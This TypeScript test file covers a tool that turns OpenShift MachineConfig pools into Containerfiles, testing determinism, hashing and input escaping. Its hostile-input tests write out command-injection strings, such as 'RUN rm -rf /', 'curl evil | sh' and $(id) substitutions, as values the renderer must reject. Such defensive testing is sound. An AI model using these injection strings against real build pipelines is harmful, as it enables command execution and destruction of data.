import { execFileSync } from 'node:child_process';
import { DockerfileParser } from 'dockerfile-ast';
import { describe, expect, it } from 'vitest';
import { contentHash, extensionCatalogs, RenderError, renderContainerfile, renderPool, type MachineConfig } from '../../src/index.js';
import { deepFreeze } from '../_support/deep-freeze.js';
import { loadSeed } from '../_support/seed.js';

const BASE = `quay.io/openshift-release-dev/ocp-v4.0-art-dev@sha256:${'b'.repeat(64)}`;
const EXT = `quay.io/openshift-release-dev/ocp-v4.0-art-dev@sha256:${'c'.repeat(64)}`;
const images = { baseImage: BASE, extensionsImage: EXT };
const seed = deepFreeze(loadSeed());
const build = (mcs: readonly MachineConfig[] = seed.machineConfigs, options: Parameters<typeof renderContainerfile>[1] = images) =>
  renderContainerfile(renderPool({ pool: seed.pool, machineConfigs: mcs }), options);

const edit = (name: string, f: (mc: MachineConfig) => void): MachineConfig[] =>
  seed.machineConfigs.map((mc) => {
    if (mc.metadata?.name !== name) return mc;
    const copy = structuredClone(mc);
    f(copy);
    return copy;
  });

function thrown(f: () => unknown): RenderError {
  try {
    f();
  } catch (e) {
    expect(e).toBeInstanceOf(RenderError);
    return e as RenderError;
  }
  throw new Error('expected a RenderError');
}

describe('renderContainerfile (containerfile flavor) on the seed example', () => {
  const b = build();

  it('parses as a Containerfile with the expected instructions', () => {
    const df = DockerfileParser.parse(b.containerfile);
    expect(df.getInstructions().map((i) => i.getKeyword())).toEqual(['FROM', 'COPY', 'RUN', 'RUN', 'RUN', 'LABEL']);
    expect(df.getFROMs()[0]!.getImage()).toBe(BASE);
    const labels = df.getInstructions().find((i) => i.getKeyword() === 'LABEL')!;
    expect(labels.getArgumentsContent()).toContain('machineconfigpool="layered"');
  });
  it('uses LF line endings and ends with a newline', () => {
    expect(b.containerfile).not.toMatch(/\r/);
    expect(b.containerfile.endsWith('\n')).toBe(true);
  });
  it('ships the Ignition config, the MachineConfig and the package list in the context', () => {
    expect(Object.keys(b.context).sort()).toEqual([
      'layering/currentconfig.json',
      'layering/ignition.json',
      'layering/install-extensions.sh',
      'layering/packages.txt',
    ]);
    expect(b.context['layering/packages.txt']).toBe('usbguard\n');
    expect(JSON.parse(b.context['layering/ignition.json']!).storage.files).toHaveLength(2);
    expect(b.packages).toEqual(['usbguard']);
    expect(b.labels).toMatchObject({ machineconfigpool: 'layered', baseOSContainerImage: BASE });
  });
  it('has the hash of its own containerfile and context', () => {
    expect(b.contentHash).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(contentHash({ containerfile: b.containerfile, context: b.context })).toBe(b.contentHash);
  });
  it('recomputes the hash in Python as README documents it', () => {
    const py =
      'import hashlib,json,sys\no=json.load(sys.stdin)\nprint("sha256:"+hashlib.sha256(json.dumps(o,sort_keys=True,separators=(",",":"),ensure_ascii=False).encode()).hexdigest())';
    const out = execFileSync('python3', ['-c', py], { input: JSON.stringify({ containerfile: b.containerfile, context: b.context }) }).toString().trim();
    expect(out).toBe(b.contentHash);
  });
  it('ships kernel arguments as a bootc kargs.d file when asked', () => {
    const bootc = build(seed.machineConfigs, { ...images, kernelArguments: 'bootc' });
    expect(bootc.context['layering/kargs.toml']).toBe('kargs = ["hugepagesz=4M"]\n');
    expect(bootc.containerfile).toContain('COPY layering/kargs.toml /usr/lib/bootc/kargs.d/50-machineconfig.toml');
    expect(bootc.contentHash).not.toBe(b.contentHash);
  });
});

describe('determinism and identity', () => {
  const b = build();
  it('same input, same bytes and hash', () => {
    const again = build();
    expect(again.containerfile).toBe(b.containerfile);
    expect(again.context).toEqual(b.context);
    expect(again.contentHash).toBe(b.contentHash);
  });
  it('permuting the input MachineConfigs changes nothing', () => {
    const perms = [[...seed.machineConfigs].reverse(), [seed.machineConfigs[2]!, seed.machineConfigs[0]!, seed.machineConfigs[3]!, seed.machineConfigs[1]!]];
    for (const p of perms) expect(build(p).contentHash).toBe(b.contentHash);
  });
  const changes: Array<[string, () => ReturnType<typeof build>]> = [
    ['a file content', () => build(edit('file', (mc) => ((mc.spec!.config as any).storage.files[0].contents.source = 'data:,changed')))],
    ['an extension', () => build(edit('usbguard', (mc) => (mc.spec!.extensions = ['usbguard', 'kerberos'])))],
    ['a kernel argument', () => build(edit('kargs', (mc) => (mc.spec!.kernelArguments = ['hugepagesz=2M'])))],
    ['the base image', () => build(seed.machineConfigs, { ...images, baseImage: BASE.replace('bbbb', 'dddd') })],
    ['the kernel type', () => build(edit('kargs', (mc) => (mc.spec!.kernelType = 'realtime')))],
  ];
  it.each(changes)('changing %s changes the hash', (_what, f) => {
    expect(f().contentHash).not.toBe(b.contentHash);
  });
  it('a realtime kernel swaps kernel packages from context files', () => {
    const rt = build(edit('kargs', (mc) => (mc.spec!.kernelType = 'realtime')));
    expect(rt.context['layering/kernel-install.txt']).toBe('kernel-rt-core\nkernel-rt-modules\nkernel-rt-modules-extra\nkernel-rt-kvm\n');
    expect(rt.context['layering/kernel-remove.txt']).toContain('kernel-core\n');
  });
});

describe('hostile input cannot escape the Containerfile', () => {
  const hostileRefs = [
    'quay.io/x\nRUN rm -rf /',
    'quay.io/x"y',
    'quay.io/$HOME',
    'quay.io/x\\y',
    'quay.io/x #comment',
    'quay.io/x:tag\r\nUSER root',
    '',
  ];
  it.each(hostileRefs)('base image %j is refused', (ref) => {
    expect(thrown(() => build(seed.machineConfigs, { ...images, baseImage: ref }))).toMatchObject({ code: 'INVALID_INPUT', stage: 'layer' });
  });
  it.each(hostileRefs)('extensions image %j is refused', (ref) => {
    expect(thrown(() => build(seed.machineConfigs, { ...images, extensionsImage: ref }))).toMatchObject({ code: 'INVALID_INPUT', stage: 'layer' });
  });
  it('package names from a catalog are checked', () => {
    const catalog = { ...extensionCatalogs['4.13'], extensions: { usbguard: ['usbguard; curl evil | sh'] } };
    expect(thrown(() => build(seed.machineConfigs, { ...images, extensionCatalog: catalog }))).toMatchObject({ code: 'INVALID_INPUT' });
    const heredoc = { ...extensionCatalogs['4.13'], extensions: { usbguard: ['EOF\nRUN id'] } };
    expect(thrown(() => build(seed.machineConfigs, { ...images, extensionCatalog: heredoc }))).toMatchObject({ code: 'INVALID_INPUT' });
  });
  it('pool names are quoted in labels ($, ", \\ escaped) and never start an instruction', () => {
    const rendered = renderPool(seed);
    const b = renderContainerfile({ ...rendered, poolName: 'a"b$c\\d #e' }, images);
    const df = DockerfileParser.parse(b.containerfile);
    expect(df.getInstructions().map((i) => i.getKeyword())).toEqual(['FROM', 'COPY', 'RUN', 'RUN', 'RUN', 'LABEL']);
    expect(b.containerfile).toContain('machineconfigpool="a\\"b\\$c\\\\d #e"');
  });
  it('pool names with line breaks are refused', () => {
    const rendered = renderPool(seed);
    expect(thrown(() => renderContainerfile({ ...rendered, poolName: 'x\nRUN id' }, images))).toMatchObject({ code: 'INVALID_INPUT' });
  });
  it('kernel arguments and file contents stay in context files', () => {
    const evil = 'x" \nRUN id $(id) `id` \\ #';
    const b = build(edit('kargs', (mc) => (mc.spec!.kernelArguments = [evil])), { ...images, kernelArguments: 'bootc' });
    expect(b.containerfile).not.toContain('$(id)');
    expect(b.context['layering/kargs.toml']).not.toContain('\nRUN');
    expect(DockerfileParser.parse(b.containerfile).getInstructions().map((i) => i.getKeyword())).toEqual(['FROM', 'COPY', 'RUN', 'RUN', 'COPY', 'RUN', 'LABEL']);
  });
});
